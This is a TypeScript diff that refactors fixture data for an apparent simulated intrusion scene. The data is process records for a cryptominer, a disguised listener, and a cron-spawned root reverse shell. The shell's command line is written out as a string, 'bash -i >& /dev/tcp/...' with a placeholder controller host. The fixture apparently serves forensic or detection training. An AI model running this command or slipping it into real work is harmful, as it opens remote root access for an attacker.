@@ -2,9 +2,7 @@ import type { Timeline } from '../timeline.js';
 import { INTRUDER, MINER_COMMAND } from '../tree/scene.js';
 import { BASE_ENVIRONMENT, type ProcessDraft } from './process.js';
 
-/** The miner, the reverse shell with the cron job it came from, and the listener that calls itself a kernel thread. */
-export function intruderProcesses(times: Timeline): readonly ProcessDraft[] {
-  const shell = `bash -i >& /dev/tcp/${INTRUDER.controller}/${INTRUDER.shellPort} 0>&1`;
+function minerAndListener(times: Timeline): readonly ProcessDraft[] {
   return [
     {
       pid: 4242,
@@ -28,6 +26,16 @@ export function intruderProcesses(times: Timeline): readonly ProcessDraft[] {
       startedAt: times.listener,
       sockets: { 3: 41377 },
     },
+  ];
+}
+
+/** From cron's child down to the interactive shell, whose input and output are the socket. */
+function reverseShell(times: Timeline): readonly ProcessDraft[] {
+  const shell = `bash -i >& /dev/tcp/${INTRUDER.controller}/${INTRUDER.shellPort} 0>&1`;
+  const rooted = { exe: '/usr/bin/bash', cwd: '/root', startedAt: times.reverseShell };
+  const connected = { sockets: { 0: 41707, 1: 41707, 2: 41707 } };
+  const login = { HOME: '/root', LOGNAME: 'root', SHELL: '/bin/sh', PWD: '/root', SHLVL: '2' };
+  return [
     {
       pid: 4705,
       parent: 620,
@@ -36,42 +44,21 @@ export function intruderProcesses(times: Timeline): readonly ProcessDraft[] {
       exe: '/usr/sbin/cron',
       startedAt: new Date(times.reverseShell.getTime() - 1000),
     },
+    { ...rooted, pid: 4706, parent: 4705, command: ['/bin/sh', '-c', `/bin/bash -c '${shell}'`], comm: 'sh' },
+    { ...rooted, ...connected, pid: 4707, parent: 4706, command: ['/bin/bash', '-c', shell], comm: 'bash' },
     {
-      pid: 4706,
-      parent: 4705,
-      command: ['/bin/sh', '-c', `/bin/bash -c '${shell}'`],
-      comm: 'sh',
-      exe: '/usr/bin/bash',
-      cwd: '/root',
-      startedAt: times.reverseShell,
-    },
-    {
-      pid: 4707,
-      parent: 4706,
-      command: ['/bin/bash', '-c', shell],
-      comm: 'bash',
-      exe: '/usr/bin/bash',
-      cwd: '/root',
-      startedAt: times.reverseShell,
-      sockets: { 0: 41707, 1: 41707, 2: 41707 },
-    },
-    {
+      ...rooted,
+      ...connected,
       pid: 4708,
       parent: 4707,
       command: ['bash', '-i'],
       comm: 'bash',
-      exe: '/usr/bin/bash',
-      cwd: '/root',
-      startedAt: times.reverseShell,
-      sockets: { 0: 41707, 1: 41707, 2: 41707 },
-      environment: {
-        ...BASE_ENVIRONMENT,
-        HOME: '/root',
-        LOGNAME: 'root',
-        SHELL: '/bin/sh',
-        PWD: '/root',
-        SHLVL: '2',
-      },
+      environment: { ...BASE_ENVIRONMENT, ...login },
     },
   ];
+}
+
+/** The miner, the listener that calls itself a kernel thread, and the reverse shell with the cron job it came from. */
+export function intruderProcesses(times: Timeline): readonly ProcessDraft[] {
+  return [...minerAndListener(times), ...reverseShell(times)];
 }
